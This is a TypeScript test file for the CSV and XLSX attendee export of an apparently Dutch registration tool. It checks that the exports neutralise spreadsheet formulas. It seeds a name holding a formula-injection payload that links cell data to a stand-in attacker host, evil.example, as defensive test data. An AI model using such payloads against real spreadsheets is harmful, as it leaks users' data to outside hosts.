// Attendee lists as organisers open them: the CSV parsed back with a CSV parser the way Dutch
// Excel reads it, the XLSX read back with exceljs. Names from mail must stay inert text.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createTestDatabase, type TestDatabase } from '../support/postgres.js';
import { ok } from './cli.js';
import { seeder } from './seed.js';

const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
const signoff = (name: string, gemeente: string) => `\r\n\r\nMet vriendelijke groet,\r\n${name}\r\nGemeente ${gemeente}`;

describe('registrations export', () => {
  let pg: TestDatabase;
  let dir: string;
  let env: Record<string, string>;
  before(async () => {
    pg = await createTestDatabase();
    dir = await mkdtemp(join(tmpdir(), 'dloket-export-'));
    env = { DATABASE_URL: pg.url };
    const seed = await seeder(env, new Date('2018-06-01T10:00:00Z'));
    try {
      await seed.receive({
        from: 'g.dejong@zuidhorn.nl', name: 'Geert de Jong', subject: 'Aanmelding Assen', date: 'Fri, 01 Jun 2018 11:00:00 +0200',
        messageId: '<signup-1@zuidhorn.nl>', text: `Graag meld ik mij aan voor Assen op 28 juni, met mijn collega.${signoff('Geert de Jong', 'Zuidhorn')}`,
      });
      await seed.change({ command: { type: 'add', email: 'rene@sudwest-fryslan.nl', session: 'assen', attendees: 1 },
        person: { name: 'René Hoekstra', municipality: 'Súdwest-Fryslân', language: 'nl' }, by: 'Marieke' });
      await seed.change({ command: { type: 'add', email: 'x@evil.example', session: 'breda', attendees: 1 },
        person: { name: hostile, municipality: '+31 6 1234', language: 'nl' } });
      await seed.change({ command: { type: 'add', email: 'weg@breda.nl', session: 'breda', attendees: 2 },
        person: { name: 'Weg "Gaat" Weg; met puntkomma', municipality: 'Breda', language: 'nl' } });
      await seed.change({ command: { type: 'cancel' }, registration: { email: 'weg@breda.nl' } });
    } finally {
      await seed.close();
    }
  });
  after(async () => {
    await pg.drop();
    await rm(dir, { recursive: true, force: true });
  });

  it('writes CSV that opens right in Dutch Excel: BOM, ";", every field quoted, CRLF, no formulas', async () => {
    const out = (await ok(['registrations', 'export', '--format', 'csv'], env)).stdout;
    const bytes = Buffer.from(out, 'utf8');
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
    const lines = out.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
    assert.ok(lines.every((l) => l.startsWith('"') && l.endsWith('"')), 'every field quoted');
    const rows = parse(bytes, { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
    assert.deepEqual(Object.keys(rows[0]!), ['sessie', 'datum', 'status', 'naam', 'e-mailadres', 'gemeente', 'personen', 'namen', 'aangemeld op', 'bericht', 'onderwerp']);
    assert.deepEqual(rows.map((r) => [r.sessie, r.status, r['e-mailadres'], r.personen]), [
      ['Assen', 'bevestigd', 'g.dejong@zuidhorn.nl', '2'],
      ['Assen', 'bevestigd', 'rene@sudwest-fryslan.nl', '1'],
      ['Breda', 'bevestigd', 'x@evil.example', '1'],
    ], 'active registrations by session, without the cancelled one');
    const [mailed, byHand, evil] = rows;
    assert.deepEqual([mailed!.naam, mailed!.gemeente, mailed!['aangemeld op'], mailed!.bericht, mailed!.onderwerp],
      ['Geert de Jong', 'Zuidhorn', '2018-06-01 12:00', '<signup-1@zuidhorn.nl>', 'Aanmelding Assen']);
    assert.deepEqual([byHand!.naam, byHand!.gemeente, byHand!.bericht], ['René Hoekstra', 'Súdwest-Fryslân', 'handmatig (Marieke)']);
    assert.equal(evil!.naam, `'${hostile}`, 'a formula is shown as text, not run');
    assert.equal(evil!.gemeente, "'+31 6 1234");
  });

  it('filters by session and status', async () => {
    const out = (await ok(['registrations', 'export', '--session', 'breda', '--status', 'all'], env)).stdout;
    const rows = parse(out, { delimiter: ';', bom: true, columns: true }) as Record<string, string>[];
    assert.deepEqual(rows.map((r) => [r.status, r.naam]), [['bevestigd', `'${hostile}`], ['afgemeld', 'Weg "Gaat" Weg; met puntkomma']]);
  });

  it('writes an XLSX workbook: a summary sheet and one sheet per session, names as text cells', async () => {
    const file = join(dir, 'aanmeldingen.xlsx');
    const r = await ok(['registrations', 'export', '--format', 'xlsx', '--output', file], env);
    assert.match(r.stderr, /3 registrations written to/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    assert.deepEqual(book.worksheets.map((s) => s.name), ['Overzicht', 'Utrecht', 'Haarlem', 'Arnhem', 'Assen', 'Venlo', 'Breda']);
    const summary = book.getWorksheet('Overzicht')!;
    const assen = summary.getRow(5).values as unknown[];
    assert.deepEqual([assen[1], assen[2], assen[5], assen[6], assen[7]], ['Assen', '2018-06-28', 50, 3, 47]);
    const breda = book.getWorksheet('Breda')!;
    assert.equal(breda.rowCount, 2, 'header and one active registration');
    const name = breda.getRow(2).getCell(4);
    assert.equal(name.type, ExcelJS.ValueType.String);
    assert.equal(name.value, hostile);
    assert.equal(name.formula, undefined);
    const sheet = book.getWorksheet('Assen')!;
    assert.deepEqual((sheet.getRow(2).values as unknown[]).slice(1, 8), ['Assen', '2018-06-28', 'bevestigd', 'Geert de Jong', 'g.dejong@zuidhorn.nl', 'Zuidhorn', 2]);
    assert.equal(sheet.getRow(1).font?.bold, true);
  });
});
